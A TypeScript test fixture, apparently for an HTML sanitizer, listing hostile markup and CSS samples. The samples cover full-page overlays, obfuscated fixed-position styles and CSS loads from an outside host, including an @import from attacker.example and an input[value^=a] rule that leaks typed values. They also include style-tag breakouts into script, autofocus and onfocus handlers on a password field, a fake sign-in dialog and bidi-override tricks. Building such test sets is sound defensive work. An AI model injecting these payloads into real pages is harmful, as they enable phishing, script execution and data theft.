import { ran, stranger } from './marks.ts';

/** Ways to stand over the page, or to move it, by style. */
const styles = [
  'position:fixed;inset:0;z-index:2147483647;background:red',
  'position:absolute;top:-9999px;left:-9999px;width:99999px;height:99999px',
  'position:sticky;top:0;height:900px',
  'POSITION : FIXED ! important;inset:0',
  'posit\\69on:fixed;inset:0',
  'position/**/:/**/fixed;inset:0',
  'margin:-2000px;padding:2000px;width:5000px',
  'transform:scale(99);outline:9999px solid red',
  'box-shadow:0 0 0 9999px red',
  'float:left;margin-top:-2000px;height:5000px;width:100vw',
  'display:contents;font-size:9999px',
  'width:100vw;height:100vh;min-width:9999px',
  'columns:9;column-width:9999px',
  'writing-mode:vertical-rl;zoom:40',
  'position-anchor:--x;anchor-name:--x;inset-area:all',
  'view-transition-name:x;top-layer:auto',
  `background:url(${stranger}/style.png)`,
  `background:u\\72l('${stranger}/style.png')`,
  `background-image:image-set("${stranger}/set.png" 1x)`,
  `list-style:url(${stranger}/list.png)`,
  `content:url(${stranger}/content.png)`,
  `cursor:url(${stranger}/cursor.cur),auto`,
  `border-image:url(${stranger}/border.png) 30`,
  `mask:url(${stranger}/mask.svg#x);filter:url(${stranger}/filter.svg#x)`,
  `width:expression(${ran})`,
  `behavior:url(#default#time2)`,
  `-moz-binding:url(${stranger}/x.xml#x)`,
  `--x:url(${stranger}/own.png);background:var(--x)`,
  `animation:x 1s;animation-name:x`,
];

const sheets = [
  `*{position:fixed!important;inset:0}`,
  `@import "${stranger}/sheet.css";`,
  `@import url(//attacker.example/sheet.css);`,
  `@font-face{font-family:x;src:url(${stranger}/font.woff)}*{font-family:x}`,
  `input[value^=a]{background:url(${stranger}/a)}`,
  `body{display:none}:root{--x:url(${stranger}/x)}`,
  `@keyframes x{}*{animation:x 1s}</style><b onanimationstart=${ran}>b</b><style>`,
  `</style><script>${ran}</script>`,
];

/** Attributes and elements that take room, focus or the person's input without any style. */
const room = [
  `<dialog open style="position:fixed;inset:0">Sign in again</dialog>`,
  `<div popover=manual id=p>over</div><button popovertarget=p>open</button>`,
  `<marquee behavior=alternate scrollamount=999 height=900 width=9999>marquee</marquee>`,
  `<table width=99999 height=99999 cellpadding=9999 border=999><tr><td width=9999 nowrap>wide</td></tr></table>`,
  `<table><tr>${'<td>nine hundred columns</td>'.repeat(300)}</tr></table>`,
  `<table><tr><td colspan=999999999 rowspan=999999999>span</td><td colspan=-1 rowspan=0>span</td></tr></table>`,
  `<table>${`<tr><td colspan=1000>a</td><td rowspan=65534>b</td></tr>`.repeat(40)}</table>`,
  `<pre>${'x'.repeat(3000)}</pre>`,
  `<p>${'W'.repeat(4000)}</p>`,
  `<h1>${'&nbsp;'.repeat(2000)}end</h1>`,
  `<hr size=9999 width=99999 align=left noshade>`,
  `<font size=7 color=red face="${stranger}">font</font><big>${'<big>'.repeat(60)}big</big>`,
  `<sup>${'<sup>'.repeat(200)}up</sup>`,
  `<sub>${'<sub>'.repeat(200)}down</sub>`,
  `<ol start=2147483647 type=I reversed><li value=-2147483648>li</li></ol>`,
  `<br>`.repeat(300),
  `<input autofocus onfocus=${ran} name=password type=password autocomplete=current-password>`,
  `<textarea autofocus onfocus=${ran}></textarea><select autofocus size=99 onfocus=${ran}><option>x</select>`,
  `<div contenteditable autofocus onfocus=${ran} tabindex=1 accesskey=x inert hidden>edit</div>`,
  `<a href="https://cars.example/" tabindex=1 accesskey=s autofocus draggable=true>first of all</a>`,
  `<label for=password>x</label><button command=show-modal commandfor=x>open</button>`,
  `<details open ontoggle=${ran}><summary accesskey=x>open</summary>x</details>`,
  `<b style="color:red" class="fixed" id="cover" dir=rtl lang=x translate=no>b</b>`,
  `\u202e<b>desrever</b> \u202d\u2066\u2067\u2068 unclosed <a href="https://cars.example/">\u202ekcatta</a>`,
  `<bdo dir=rtl>${'\u202e'.repeat(300)}over</bdo>`,
  `Z${'\u0301\u0336\u0352'.repeat(900)} marks without end`,
];

/** What would cover, move or slow the page, or take the focus. */
export const covers: readonly string[] = [
  ...styles.map(
    (style) => `<div style="${style}" class=x><a href="https://cars.example/" style="${style}">over</a></div>`,
  ),
  ...sheets.map((sheet) => `<style>${sheet}</style>styled`),
  ...room,
];
